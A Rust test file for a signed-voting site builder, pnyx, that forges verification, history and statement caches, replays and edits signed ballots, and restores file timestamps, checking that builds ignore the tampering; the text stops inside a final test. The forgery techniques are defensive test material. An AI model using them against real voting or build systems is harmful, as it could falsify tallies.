//! A verification cache can make a build faster, never change its result, and is never read
//! from the repository's content (SPEC §4, "Integrity"). Each test is named after the attack it
//! stops: a hand-made `.pnyx-cache/verify.bin` (the layout is public) committed in a pull
//! request, or copied from another machine, on real repositories with real signatures.

use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::Command;

use git2::{ObjectType, Oid};
use hmac::{Hmac, Mac as _};
use pnyx::signatures::keys::parse_public_key;
use sha2::{Digest as _, Sha256};

use super::fixture::{location, missing_tool, pnyx_env, read_tree, Run};
use super::repo::{council, day, GitSite, Key};

const CACHE: &str = ".pnyx-cache/verify.bin";
const BUS: &str = "content/initiatives/bus.md";
const TRAM: &str = "content/initiatives/tram.md";
const VOTE: &str = "content/votes/charte.md";

/// A council whose branch holds three statements that must not count: a genuine support of
/// `tram` copied to `bus` (replayed), a member's ballot edited after signing (`yes` → `no`),
/// and, when stock minisign is installed, an outsider's key that signed another text as a
/// support of `bus` with the minisign command line.
struct Council {
    site: GitSite,
    /// The statement files that must not count, as the attacker wrote them.
    forged: Vec<Forged>,
    /// The council's members: the first three are the roots of trust; the first has not voted.
    members: Vec<Key>,
}

/// A statement the attacker wants counted, and what the old cache layout keys it by.
struct Forged {
    statement: Vec<u8>,
    key_file: Vec<u8>,
    target: Vec<u8>,
}

impl std::ops::Deref for Council {
    type Target = GitSite;
    fn deref(&self) -> &GitSite {
        &self.site
    }
}

fn minisign_installed() -> bool {
    Command::new("minisign")
        .arg("-v")
        .output()
        .is_ok_and(|o| o.status.success())
}

impl Council {
    /// `main` holds the council and its genuine statements (day 6); with `attack_on_main`,
    /// the attack is committed on `main` too (day 8), else it waits uncommitted in the work
    /// tree.
    fn new(attack_on_main: bool) -> Council {
        let (site, members, _) = council(0);
        let initiative = |title: &str| {
            format!("---\ntitle: {title}\nkind: project\npole: logement\ncloses: 2027-02-01\ngoal: 3\n---\n{title}.\n")
        };
        site.write(BUS, &initiative("Bus gratuits"));
        site.write(TRAM, &initiative("Tram de nuit"));
        site.write(
            VOTE,
            "---\ntitle: Adopter la charte ?\nmethod: majority\noptions: [yes, no]\nopens: 2026-10-05\ncloses: 2026-10-20\nelectorate: members\n---\nLa charte.\n",
        );
        site.commit(day(1), "the council");
        let support = |k: &Key, slug: &str| format!("signatures/initiatives/{slug}/{}.minisig", k.id);
        let ballot = |k: &Key| format!("signatures/votes/charte/{}.minisig", k.id);
        site.sign(&members[0], TRAM, "pnyx/1 support", &support(&members[0], "tram"));
        site.sign(&members[1], VOTE, "pnyx/1 vote yes", &ballot(&members[1]));
        site.sign(&members[2], VOTE, "pnyx/1 vote yes", &ballot(&members[2]));
        site.commit(day(6), "genuine statements");

        let key_file = |k: &Key| site.read(&format!("signatures/keys/{}.pub", k.id));
        let mut forged = Vec::new();
        // A genuine support of `tram`, copied as a support of `bus`.
        let replayed = site.read(&support(&members[0], "tram"));
        site.write(
            &support(&members[0], "bus"),
            std::str::from_utf8(&replayed).unwrap(),
        );
        forged.push(Forged {
            statement: replayed,
            key_file: key_file(&members[0]),
            target: site.read(BUS),
        });
        // A ballot edited after it was signed.
        let edited = String::from_utf8(site.read(&ballot(&members[1])))
            .unwrap()
            .replace("pnyx/1 vote yes", "pnyx/1 vote no");
        site.write(&ballot(&members[1]), &edited);
        forged.push(Forged {
            statement: edited.into_bytes(),
            key_file: key_file(&members[1]),
            target: site.read(VOTE),
        });
        // The attacker's own key, made and used with stock minisign: a signature of another
        // text, filed as a support of `bus`.
        if !missing_tool(minisign_installed(), "minisign", "apt-get install minisign") {
            let tmp = tempfile::tempdir().unwrap();
            let (pk, sk, text) = (
                tmp.path().join("k.pub"),
                tmp.path().join("k.key"),
                tmp.path().join("other.md"),
            );
            let run = |args: &[&OsStr]| {
                let o = Command::new("minisign").args(args).output().unwrap();
                assert!(
                    o.status.success(),
                    "minisign: {}",
                    String::from_utf8_lossy(&o.stderr)
                );
            };
            run(&[
                OsStr::new("-G"),
                OsStr::new("-W"),
                OsStr::new("-p"),
                pk.as_os_str(),
                OsStr::new("-s"),
                sk.as_os_str(),
            ]);
            std::fs::write(&text, "Des bus gratuits, et un parking pour l'attaquant.\n").unwrap();
            let statement = tmp.path().join("s.minisig");
            run(&[
                OsStr::new("-S"),
                OsStr::new("-s"),
                sk.as_os_str(),
                OsStr::new("-m"),
                text.as_os_str(),
                OsStr::new("-x"),
                statement.as_os_str(),
                OsStr::new("-t"),
                OsStr::new("pnyx/1 support"),
            ]);
            let pub_text = std::fs::read_to_string(&pk).unwrap();
            let id = parse_public_key(&pub_text).unwrap().id;
            site.write(&format!("signatures/keys/{id}.pub"), &pub_text);
            let bytes = std::fs::read(&statement).unwrap();
            site.write(
                &format!("signatures/initiatives/bus/{id}.minisig"),
                std::str::from_utf8(&bytes).unwrap(),
            );
            forged.push(Forged {
                statement: bytes,
                key_file: pub_text.into_bytes(),
                target: site.read(BUS),
            });
        }
        if attack_on_main {
            site.commit(day(8), "supports and a ballot");
        }
        Council {
            site,
            forged,
            members,
        }
    }

    fn cache(&self) -> PathBuf {
        self.root().join(CACHE)
    }

    fn remove_cache(&self) {
        let _ = std::fs::remove_dir_all(self.root().join(".pnyx-cache"));
    }

    /// Writes `bytes` as the site's cache file.
    fn plant(&self, bytes: &[u8]) {
        std::fs::create_dir_all(self.cache().parent().unwrap()).unwrap();
        std::fs::write(self.cache(), bytes).unwrap();
    }

    /// `git add -f` of a file that `.gitignore` ignores.
    fn force_add(&self, rel: &str) {
        let mut index = self.repo.index().unwrap();
        index.add_path(Path::new(rel)).unwrap();
        index.write().unwrap();
    }

    /// `git rm --cached` (the file stays on disk).
    fn untrack(&self, rel: &str) {
        let mut index = self.repo.index().unwrap();
        index.remove_path(Path::new(rel)).unwrap();
        index.write().unwrap();
    }

    /// The open data of a build with no cache at all: a fresh home, no cache file before or
    /// after.
    fn cold(&self, out: &Path) -> OpenData {
        self.remove_cache();
        let home = tempfile::tempdir().unwrap();
        let run = build(self.root(), out, home.path());
        run.assert_ok();
        self.remove_cache();
        OpenData::of(out)
    }
}

/// `pnyx build --root ROOT --out OUT` with pnyx's own folder at `home`, timings on.
fn build(root: &Path, out: &Path, home: &Path) -> Run {
    pnyx_env(
        [
            OsStr::new("build"),
            OsStr::new("--root"),
            root.as_os_str(),
            OsStr::new("--out"),
            out.as_os_str(),
        ],
        &[
            ("PNYX_HOME", Some(home.as_os_str())),
            ("PNYX_TIMINGS", Some(OsStr::new("1"))),
        ],
    )
}

/// What the build said about its cache: the status, hits and misses.
fn cache_line(run: &Run) -> (String, u64, u64) {
    let line = run
        .stderr
        .lines()
        .find_map(|l| l.strip_prefix("timing: cache: "))
        .unwrap_or_else(|| panic!("no cache line:\n{run}"));
    let (status, counts) = line.rsplit_once("; ").unwrap();
    let mut n = counts
        .split(", ")
        .map(|c| c.split(' ').next().unwrap().parse().unwrap());
    (status.to_string(), n.next().unwrap(), n.next().unwrap())
}

/// The tallies of the open data, byte for byte.
#[derive(PartialEq, Eq)]
struct OpenData {
    initiatives: Vec<u8>,
    votes: Vec<u8>,
}

impl std::fmt::Debug for OpenData {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
        write!(
            f,
            "initiatives.json {}\nvotes.json {}",
            text(&self.initiatives),
            text(&self.votes)
        )
    }
}

impl OpenData {
    fn of(out: &Path) -> OpenData {
        let read = |f: &str| std::fs::read(out.join("data").join(f)).unwrap();
        OpenData {
            initiatives: read("initiatives.json"),
            votes: read("votes.json"),
        }
    }

    fn json(bytes: &[u8], slug: &str) -> serde_json::Value {
        let all: serde_json::Value = serde_json::from_slice(bytes).unwrap();
        all.as_array()
            .unwrap()
            .iter()
            .find(|r| r["slug"] == slug)
            .unwrap()
            .clone()
    }
}

/// `body` followed by its HMAC-SHA256 under `key`: a cache file sealed with that key.
fn hmac_sealed(mut body: Vec<u8>, key: &[u8; 32]) -> Vec<u8> {
    let mut m = Hmac::<Sha256>::new_from_slice(key).unwrap();
    m.update(&body);
    body.extend_from_slice(&m.finalize().into_bytes());
    body
}

/// The secret that seals the caches of the machine whose pnyx folder is `home`.
fn machine_key(home: &Path) -> [u8; 32] {
    std::fs::read(home.join("cache.key")).unwrap().try_into().unwrap()
}

/// How the attacker seals a hand-made file.
enum Seal {
    /// A plain SHA-256 of the rest, as the old layout documents.
    Sha256,
    /// HMAC-SHA256 under a key the attacker guesses or owns.
    Hmac([u8; 32]),
}

/// The key of one check as the old layout documents it: the first 16 bytes of the SHA-256
/// of the three git blob ids.
fn documented_key(f: &Forged) -> [u8; 16] {
    let mut h = Sha256::new();
    for bytes in [&f.statement, &f.key_file, &f.target] {
        h.update(Oid::hash_object(ObjectType::Blob, bytes).unwrap().as_bytes());
    }
    h.finalize()[..16].try_into().unwrap()
}

/// A cache file saying "verifies" (`V`) for each of `forged`, plus `extra` entries.
fn hand_made(magic: &[u8; 8], forged: &[Forged], extra: &[([u8; 16], u8)], seal: &Seal) -> Vec<u8> {
    let mut entries: Vec<([u8; 16], u8)> = forged.iter().map(|f| (documented_key(f), b'V')).collect();
    entries.extend_from_slice(extra);
    entries.sort();
    entries.dedup_by_key(|e| e.0);
    let mut bytes = magic.to_vec();
    bytes.extend_from_slice(&(entries.len() as u64).to_le_bytes());
    for (k, o) in &entries {
        bytes.extend_from_slice(k);
        bytes.push(*o);
    }
    match seal {
        Seal::Sha256 => {
            let tag: [u8; 32] = Sha256::digest(&bytes).into();
            bytes.extend_from_slice(&tag);
            bytes
        }
        Seal::Hmac(key) => hmac_sealed(bytes, key),
    }
}

/// The entries of an honest cache file (any seal), every outcome turned into `V`.
fn all_verified(file: &[u8]) -> Vec<([u8; 16], u8)> {
    file[16..file.len() - 32]
        .chunks_exact(17)
        .map(|c| (c[..16].try_into().unwrap(), b'V'))
        .collect()
}

#[test]
fn a_committed_cache_cannot_count_a_replayed_support_or_an_edited_ballot() {
    let c = Council::new(true);
    let outs = tempfile::tempdir().unwrap();
    let cold = c.cold(&outs.path().join("cold"));
    // What the attack wants, and does not get without the cache: the copied and the
    // minisign-made supports of `bus`, the edited ballot.
    assert_eq!(OpenData::json(&cold.initiatives, "bus")["supporters"]["total"], 0);
    assert_eq!(
        OpenData::json(&cold.initiatives, "tram")["supporters"]["total"],
        1
    );
    // The edited ballot says `no` in a file its key did not send: it is refused, and that
    // key's own `yes`, from history, still counts.
    let vote = OpenData::json(&cold.votes, "charte");
    assert_eq!(vote["scores"]["yes"], 2, "{vote}");
    assert_eq!(vote["scores"]["no"], 0, "{vote}");

    let home = tempfile::tempdir().unwrap();
    let seals = [
        (b"PNYXVC02", Seal::Sha256),
        (b"PNYXVC01", Seal::Sha256),
        (b"PNYXVC02", Seal::Hmac([0; 32])),
        (b"PNYXVC02", Seal::Hmac(*b"pnyxpnyxpnyxpnyxpnyxpnyxpnyxpnyx")),
    ];
    for (n, (magic, seal)) in seals.iter().enumerate() {
        let forged = hand_made(magic, &c.forged, &[], seal);
        c.plant(&forged);
        c.force_add(CACHE);
        c.commit(day(9 + n as i64), "speed up the builds");
        let out = outs.path().join(format!("attacked-{n}"));
        let run = build(c.root(), &out, home.path());
        run.assert_ok();
        assert_eq!(
            OpenData::of(&out),
            cold,
            "seal {n}: the committed cache changed the result"
        );
        assert!(
            run.stderr
                .contains("note: `.pnyx-cache/verify.bin` is tracked by git")
                && run.stderr.contains("git rm -r --cached .pnyx-cache"),
            "{run}"
        );
        let (status, hits, _) = cache_line(&run);
        assert!(status.contains("not used (tracked by git)"), "{status}");
        assert_eq!(hits, 0);
        assert_eq!(
            std::fs::read(c.cache()).unwrap(),
            forged,
            "a tracked cache is not written over"
        );
    }

    // Out of git but still on disk, as a hand-made file: its seal is not this machine's.
    c.untrack(CACHE);
    c.commit(day(20), "untrack the cache");
    for (n, (magic, seal)) in seals.iter().enumerate() {
        c.plant(&hand_made(magic, &c.forged, &[], seal));
        let out = outs.path().join(format!("planted-{n}"));
        let run = build(c.root(), &out, home.path());
        run.assert_ok();
        assert_eq!(
            OpenData::of(&out),
            cold,
            "seal {n}: the planted cache changed the result"
        );
        let (status, hits, _) = cache_line(&run);
        assert!(status.contains("discarded"), "{status}");
        assert_eq!(hits, 0);
    }
}

#[test]
fn a_cache_from_another_machine_changes_nothing() {
    let c = Council::new(true);
    let outs = tempfile::tempdir().unwrap();
    let cold = c.cold(&outs.path().join("cold"));
    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());

    // Another machine's honest cache, copied over: not used, the same result.
    build(c.root(), &outs.path().join("there"), there.path()).assert_ok();
    let theirs = std::fs::read(c.cache()).unwrap();
    let run = build(c.root(), &outs.path().join("here"), here.path());
    run.assert_ok();
    let (status, hits, _) = cache_line(&run);
    assert_eq!(
        status,
        "verification cache discarded (not sealed by this machine's key): every statement is checked"
    );
    assert_eq!(hits, 0);
    assert_eq!(OpenData::of(&outs.path().join("here")), cold);

    // A cache sealed with a key the attacker owns (the other machine's), every entry turned
    // into "verifies" and the forged statements added: the same result.
    let secret = machine_key(there.path());
    c.plant(&hand_made(
        b"PNYXVC02",
        &c.forged,
        &all_verified(&theirs),
        &Seal::Hmac(secret),
    ));
    let run = build(c.root(), &outs.path().join("forged"), here.path());
    run.assert_ok();
    assert_eq!(cache_line(&run).1, 0, "{run}");
    assert_eq!(OpenData::of(&outs.path().join("forged")), cold);
}

#[test]
fn a_warm_build_equals_a_cold_build() {
    let c = Council::new(true);
    c.remove_cache();
    let outs = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let (cold, warm) = (outs.path().join("cold"), outs.path().join("warm"));
    let run = build(c.root(), &cold, home.path());
    run.assert_ok();
    let (status, hits, misses) = cache_line(&run);
    assert!(status.contains("no verification cache yet"), "{status}");
    assert_eq!(hits, 0);
    assert!(misses > 0);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(home.path().join("cache.key"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "the cache's key is readable by others");
    }

    let run = build(c.root(), &warm, home.path());
    run.assert_ok();
    let (status, hits, misses) = cache_line(&run);
    assert!(status.contains("entries loaded"), "{status}");
    assert!(hits > 0, "the honest cache is used: {status}");
    assert_eq!(misses, 0, "every check found in the cache");
    assert!(
        read_tree(&cold) == read_tree(&warm),
        "a warm build differs from a cold one"
    );
}

/// `pnyx check --root ROOT ARGS…` with pnyx's own folder at `home`, outside GitHub Actions.
fn check(c: &GitSite, home: &Path, args: &[&str]) -> Run {
    let mut all: Vec<&OsStr> = vec![OsStr::new("check"), OsStr::new("--root"), c.root().as_os_str()];
    all.extend(args.iter().map(OsStr::new));
    pnyx_env(
        all,
        &[
            ("PNYX_HOME", Some(home.as_os_str())),
            ("GITHUB_ACTIONS", None),
            ("GITHUB_STEP_SUMMARY", None),
        ],
    )
}

/// Whether `run` has a diagnostic at `path` that says `says`.
fn says_at(run: &Run, path: &str, says: &str) -> bool {
    run.diagnostics()
        .into_iter()
        .any(|l| location(l).is_some_and(|loc| loc.starts_with(&format!("{path}:"))) && l.contains(says))
}

/// Switches the work tree to `branch`, as `git checkout --force`.
fn checkout(site: &GitSite, branch: &str) {
    site.repo.set_head(&format!("refs/heads/{branch}")).unwrap();
    site.repo
        .checkout_head(Some(
            git2::build::CheckoutBuilder::new()
                .force()
                .remove_untracked(false),
        ))
        .unwrap();
}

#[test]
fn pnyx_check_refuses_a_committed_cache_even_with_admin_review() {
    let c = Council::new(false);
    let home = tempfile::tempdir().unwrap();
    // The attack, on its branch: the three statements and a cache that says they verify.
    c.branch("attack");
    let forged = hand_made(b"PNYXVC02", &c.forged, &[], &Seal::Sha256);
    c.plant(&forged);
    c.force_add(CACHE);
    c.commit(day(8), "supports, a ballot and a faster build");
    let replayed = "signatures/initiatives/bus/";

    let work_tree = check(&c, home.path(), &["--base", "main", "--admin-review"]);
    checkout(&c, "main");
    assert!(!c.cache().exists(), "the work tree is main's");
    let head = check(
        &c,
        home.path(),
        &["--base", "main", "--head", "attack", "--admin-review"],
    );
    for run in [&work_tree, &head] {
        assert_eq!(run.code, Some(1), "{run}");
        assert!(
            says_at(
                run,
                CACHE,
                "is a committed verification cache: pnyx never reads one from the repository"
            ),
            "{run}"
        );
        assert!(run.stderr.contains("git rm -r --cached .pnyx-cache"), "{run}");
        assert!(
            run.stdout.contains(&format!("added     protected   {CACHE}")),
            "{run}"
        );
        assert!(
            !run.stdout.contains(&format!("{CACHE}:1:1: protected path")),
            "not admin-reviewed:\n{run}"
        );
        // Nor did the cache make the forged statements pass.
        let refused = run
            .diagnostics()
            .into_iter()
            .filter(|l| l.starts_with(replayed) && l.contains("does not verify"))
            .count();
        assert_eq!(refused, c.forged.len() - 1, "{run}");
        let ballot = run
            .diagnostics()
            .into_iter()
            .any(|l| l.starts_with("signatures/votes/charte/") && l.contains("does not verify"));
        assert!(ballot, "{run}");
    }
    assert!(
        work_tree
            .stdout
            .contains("note: `.pnyx-cache/verify.bin` is tracked by git"),
        "{work_tree}"
    );

    // The cure, `git rm -r --cached .pnyx-cache`, is an ordinary protected change.
    checkout(&c, "attack");
    c.branch("cure");
    c.untrack(CACHE);
    c.commit(day(9), "untrack the cache");
    let run = check(&c, home.path(), &["--base", "attack", "--admin-review"]);
    assert_eq!(run.code, Some(0), "{run}");
    assert!(
        run.stdout.contains(&format!("deleted   protected   {CACHE}")),
        "{run}"
    );
    let run = check(&c, home.path(), &["--base", "attack"]);
    assert!(says_at(&run, CACHE, "protected path"), "{run}");
}

#[test]
fn pnyx_check_lists_ignored_and_dot_files_it_reads() {
    let (site, _, _) = council(0);
    site.commit(day(1), "the council");
    // pnyx's own output, untracked: never part of a change.
    site.build();
    assert!(site.root().join(CACHE).exists() && site.root().join("public").exists());
    let home = tempfile::tempdir().unwrap();
    site.branch("hidden");
    // `.gitignore` files the change brings, and files they hide: committed with `git add -f`.
    site.write("static/.gitignore", "*.txt\n");
    site.write("src/.gitignore", "evil.rs\n");
    let committed = [
        "static/.well-known/security.txt",
        "src/evil.rs",
        "content/pages/.brouillon.md",
    ];
    for f in committed {
        site.write(f, "x\n");
    }
    site.write(".gitignore", &format!("{}.*.md\n", super::repo::GITIGNORE));
    site.commit(day(2), "ignore files");
    let mut index = site.repo.index().unwrap();
    for f in committed {
        index.add_path(Path::new(f)).unwrap();
    }
    index.write().unwrap();
    site.commit(day(2), "hidden files");
    // Ignored and untracked, yet published by the build: part of the work tree's change.
    site.write("static/notes.txt", "x\n");

    let work_tree = check(&site, home.path(), &["--base", "main"]);
    let head = check(&site, home.path(), &["--base", "main", "--head", "hidden"]);
    for (run, listed) in [(&work_tree, true), (&head, false)] {
        assert_eq!(run.code, Some(1), "src/ is protected:\n{run}");
        let changed: Vec<&str> = run
            .stdout
            .lines()
            .filter_map(|l| l.strip_prefix("  "))
            .filter_map(|l| l.split_whitespace().nth(2))
            .collect();
        for f in committed
            .iter()
            .chain(&[".gitignore", "static/.gitignore", "src/.gitignore"])
        {
            assert!(changed.contains(f), "{f} not listed:\n{run}");
        }
        assert_eq!(changed.contains(&"static/notes.txt"), listed, "{run}");
        assert!(
            !changed
                .iter()
                .any(|p| p.starts_with("public/") || p.starts_with(".pnyx-cache/")),
            "{run}"
        );
        assert!(says_at(run, "src/evil.rs", "protected path"), "{run}");
    }
}

#[test]
fn a_machine_without_a_secret_builds_without_a_cache_and_says_so_once() {
    let c = Council::new(true);
    let outs = tempfile::tempdir().unwrap();
    let cold = c.cold(&outs.path().join("cold"));
    // pnyx's own folder cannot be made: a file stands where its parent should be (this
    // stops root too, unlike permissions).
    let blocked = tempfile::tempdir().unwrap();
    std::fs::write(blocked.path().join("file"), "").unwrap();
    let home = blocked.path().join("file/pnyx");
    let run = build(c.root(), &outs.path().join("keyless"), &home);
    run.assert_ok();
    assert_eq!(OpenData::of(&outs.path().join("keyless")), cold);
    let notes: Vec<&str> = run.stderr.lines().filter(|l| l.starts_with("note: ")).collect();
    assert_eq!(notes.len(), 1, "{run}");
    assert!(
        notes[0].contains("cannot read or create the verification cache's key")
            && notes[0].contains("running without a verification cache")
            && notes[0].contains("PNYX_HOME"),
        "{run}"
    );
    assert!(
        cache_line(&run).0.contains("not used (no key to seal it)"),
        "{run}"
    );
    assert!(!c.cache().exists(), "nothing saved without a seal");
}

const HISTORY: &str = ".pnyx-cache/history.bin";

/// A file's version in the history cache: blob id, index of the commit that brought it.
type Version = ([u8; 20], u32);

/// A history cache file as its documented layout reads (`src/load/history_cache.rs`): what
/// comes before the files, the files with their versions (blob id, commit index), the seal.
struct HistoryFile {
    head: Vec<u8>,
    /// Each commit's recorded time, oldest first.
    commits: Vec<i64>,
    files: Vec<(String, Vec<Version>)>,
}

impl HistoryFile {
    fn parse(bytes: &[u8]) -> HistoryFile {
        let body = &bytes[..bytes.len() - 32];
        let mut at = 8;
        let u32_at = |at: &mut usize| {
            let n = u32::from_le_bytes(body[*at..*at + 4].try_into().unwrap());
            *at += 4;
            n
        };
        let skip_str = |at: &mut usize| {
            let n = u32_at(at) as usize;
            *at += n;
        };
        skip_str(&mut at);
        for _ in 0..u32_at(&mut at) {
            skip_str(&mut at);
        }
        let mut commits = Vec::new();
        for _ in 0..u32_at(&mut at) {
            commits.push(i64::from_le_bytes(body[at + 20..at + 28].try_into().unwrap()));
            at += 28;
            skip_str(&mut at);
            skip_str(&mut at);
            at += 1;
        }
        let head = body[..at].to_vec();
        let mut files = Vec::new();
        for _ in 0..u32_at(&mut at) {
            let n = u32_at(&mut at) as usize;
            let path = String::from_utf8(body[at..at + n].to_vec()).unwrap();
            at += n;
            let versions = (0..u32_at(&mut at))
                .map(|_| {
                    let blob: [u8; 20] = body[at..at + 20].try_into().unwrap();
                    at += 20;
                    (blob, u32_at(&mut at))
                })
                .collect();
            files.push((path, versions));
        }
        assert_eq!(at, body.len(), "the documented layout reads the whole file");
        HistoryFile { head, commits, files }
    }

    /// The file again, sealed with HMAC-SHA256 under `key`.
    fn sealed(&self, key: &[u8; 32]) -> Vec<u8> {
        let mut bytes = self.head.clone();
        bytes.extend_from_slice(&(self.files.len() as u32).to_le_bytes());
        for (path, versions) in &self.files {
            bytes.extend_from_slice(&(path.len() as u32).to_le_bytes());
            bytes.extend_from_slice(path.as_bytes());
            bytes.extend_from_slice(&(versions.len() as u32).to_le_bytes());
            for (blob, commit) in versions {
                bytes.extend_from_slice(blob);
                bytes.extend_from_slice(&commit.to_le_bytes());
            }
        }
        hmac_sealed(bytes, key)
    }
}

/// A ballot sent after the vote closed does not count. An attacker rewrites the history cache
/// (its layout is public) so that the ballot seems to arrive with an earlier commit, before
/// the close, and seals it with a key of their own, or commits it in a pull request. Neither
/// file is read: the result is the cold build's. Only a file sealed with this machine's own
/// key would be believed, which the test shows, so that the forged file does say something.
#[test]
fn a_history_cache_from_another_machine_or_a_pull_request_cannot_date_a_late_ballot_before_the_close() {
    let c = Council::new(true);
    // The first member has not voted: their ballot arrives after the close (2026-10-20).
    let late = format!("signatures/votes/charte/{}.minisig", c.members[0].id);
    c.sign(&c.members[0], VOTE, "pnyx/1 vote no", &late);
    c.commit(day(25), "a late ballot");

    let outs = tempfile::tempdir().unwrap();
    let cold = c.cold(&outs.path().join("cold"));
    let scores = |d: &OpenData| OpenData::json(&d.votes, "charte")["scores"].clone();
    assert_eq!(scores(&cold)["no"], 0, "the late ballot does not count");

    // The attacker's machine builds and keeps its own honest history cache.
    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    build(c.root(), &outs.path().join("there"), there.path()).assert_ok();
    let mut file = HistoryFile::parse(&std::fs::read(c.root().join(HISTORY)).unwrap());
    // The late ballot now "arrives" with the genuine ballots, while the vote was open.
    let open = file.commits.iter().position(|t| *t == day(6)).unwrap() as u32;
    let entry = file.files.iter_mut().find(|(p, _)| *p == late).unwrap();
    for v in &mut entry.1 {
        v.1 = open;
    }
    let theirs = machine_key(there.path());
    let plant = |bytes: &[u8]| {
        std::fs::write(c.root().join(HISTORY), bytes).unwrap();
    };

    // Sealed with the attacker's key: not believed.
    plant(&file.sealed(&theirs));
    let out = outs.path().join("foreign");
    build(c.root(), &out, here.path()).assert_ok();
    assert_eq!(
        OpenData::of(&out),
        cold,
        "a foreign history cache changed the result"
    );

    // Sealed with this machine's key (which no attacker has): believed, and it would count.
    let ours = machine_key(here.path());
    plant(&file.sealed(&ours));
    let out = outs.path().join("ours");
    build(c.root(), &out, here.path()).assert_ok();
    assert_eq!(
        scores(&OpenData::of(&out))["no"],
        1,
        "the forged file says something"
    );

    // The same file committed in a pull request: never read, even with this machine's seal.
    plant(&file.sealed(&ours));
    c.force_add(HISTORY);
    c.commit(day(26), "speed up the builds");
    let out = outs.path().join("committed");
    build(c.root(), &out, here.path()).assert_ok();
    assert_eq!(
        scores(&OpenData::of(&out)),
        scores(&cold),
        "a committed history cache changed the result"
    );
}

const STATEMENTS: &str = ".pnyx-cache/statements.bin";

/// Lets the clock move on and has git write its index again (as `git status` does), so that no
/// entry is "racily clean" (written in the instant the index was): git's index then vouches for
/// every file, as it does in a checkout that is not brand new.
fn settle_index(site: &GitSite) {
    std::thread::sleep(std::time::Duration::from_millis(50));
    let repo = git2::Repository::open(site.root()).unwrap();
    let mut index = repo.index().unwrap();
    index.add_all(["*"], git2::IndexAddOption::DEFAULT, None).unwrap();
    index.write().unwrap();
}

/// The first line of a ballot's signature, one base64 digit changed: same size, same key,
/// a signature that no longer verifies.
fn tampered(text: &str) -> String {
    let mut lines: Vec<String> = text.lines().map(String::from).collect();
    let sig = &mut lines[1];
    let last = sig.pop().unwrap();
    sig.push(if last == 'A' { 'B' } else { 'A' });
    let mut out = lines.join("\n");
    out.push('\n');
    out
}

/// Forges the third member's ballot in place (one digit of its signature, same size) and puts
/// its modification time back, as an attacker hoping that git's index still vouches for it.
fn forge_in_place_keeping_its_time(c: &Council) {
    let ballot = format!("signatures/votes/charte/{}.minisig", c.members[2].id);
    let path = c.root().join(&ballot);
    let modified = std::fs::metadata(&path).unwrap().modified().unwrap();
    let text = String::from_utf8(c.read(&ballot)).unwrap();
    let changed = tampered(&text);
    assert_eq!(changed.len(), text.len());
    std::thread::sleep(std::time::Duration::from_millis(20));
    c.write(&ballot, &changed);
    std::fs::File::options()
        .write(true)
        .open(&path)
        .unwrap()
        .set_modified(modified)
        .unwrap();
    assert_eq!(std::fs::metadata(&path).unwrap().modified().unwrap(), modified);
}

/// git's index vouches for a file whose stat data it recorded. An attacker with access to the
/// work tree changes a committed ballot in place, same size, and puts its modification time
/// back, hoping that the build takes the index's blob id (and the statement cache's facts) for
/// the new bytes. The change time cannot be put back: the file is read, and the warm build
/// gives exactly the cold build's site, where the ballot is forged.
#[test]
fn a_statement_changed_in_place_with_its_time_put_back_is_read_again() {
    let c = Council::new(true);
    settle_index(&c);
    let outs = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let untouched = outs.path().join("untouched");
    build(c.root(), &untouched, home.path()).assert_ok();
    assert!(
        c.root().join(STATEMENTS).exists(),
        "the build keeps a statement cache"
    );
    let run = build(c.root(), &outs.path().join("again"), home.path());
    assert!(
        run.stderr.contains("statement files: 0 read"),
        "git's index and the statement cache know every statement:\n{run}"
    );

    forge_in_place_keeping_its_time(&c);

    let warm = outs.path().join("warm");
    let run = build(c.root(), &warm, home.path());
    run.assert_ok();
    assert!(
        run.stderr.contains("statement files: 1 read"),
        "only the changed file is read:\n{run}"
    );
    let cold = outs.path().join("cold");
    c.cold(&cold);
    assert!(
        read_tree(&cold) == read_tree(&warm),
        "the warm build differs from the cold one"
    );
    assert!(read_tree(&cold) != read_tree(&untouched), "the change shows");
}

/// A build without a statement cache reads the statements git's index vouches for from git's
/// objects, by the blob id the index gives (one packed file rather than a million small ones).
/// The attacker of the test above changes a ballot in place and puts its time back before such
/// a build, hoping it reads the committed bytes from git instead of the file: the change time
/// differs, the index does not vouch for the file, and the file is read, where the ballot is
/// forged.
#[test]
fn a_statement_changed_in_place_before_a_first_build_is_read_from_the_file_not_from_git() {
    let c = Council::new(true);
    settle_index(&c);
    let outs = tempfile::tempdir().unwrap();
    c.cold(&outs.path().join("untouched"));
    let statements = std::fs::read_dir(c.root().join("signatures/votes/charte"))
        .unwrap()
        .count();

    forge_in_place_keeping_its_time(&c);

    c.remove_cache();
    let home = tempfile::tempdir().unwrap();
    let out = outs.path().join("changed");
    let run = build(c.root(), &out, home.path());
    run.assert_ok();
    let line = run
        .stderr
        .lines()
        .find(|l| l.contains("statement files:"))
        .unwrap_or_default()
        .to_string();
    let read: usize = line
        .split("statement files: ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next()?.parse().ok())
        .unwrap_or(0);
    let from_git: usize = line
        .split('(')
        .nth(1)
        .and_then(|rest| rest.split(' ').next()?.parse().ok())
        .unwrap_or(0);
    assert!(statements > 1 && read > statements, "{line}");
    assert_eq!(
        from_git,
        read - 1,
        "all but the changed file come from git's objects: {line}"
    );
    let rejected = |out: &Path| {
        std::fs::read_to_string(out.join("statements/index.html"))
            .unwrap()
            .contains(&c.members[2].id.to_string())
    };
    assert!(
        !rejected(&outs.path().join("untouched")),
        "the ballot counted before"
    );
    assert!(rejected(&out), "the forged ballot is not shown as rejected");
}

/// The statement cache says what each statement file says, by its blob id. An attacker writes
/// one (its layout is public) where a member's `yes` ballot says `no`, and seals it with a key of
/// their own, or commits it in a pull request: neither is read, the result is the cold build's.
/// Only a file sealed with this machine's own key would be believed, which the test shows, so
/// that the forged file does say something.
#[test]
fn a_statement_cache_from_another_machine_or_a_pull_request_cannot_turn_a_yes_into_a_no() {
    let c = Council::new(true);
    settle_index(&c);
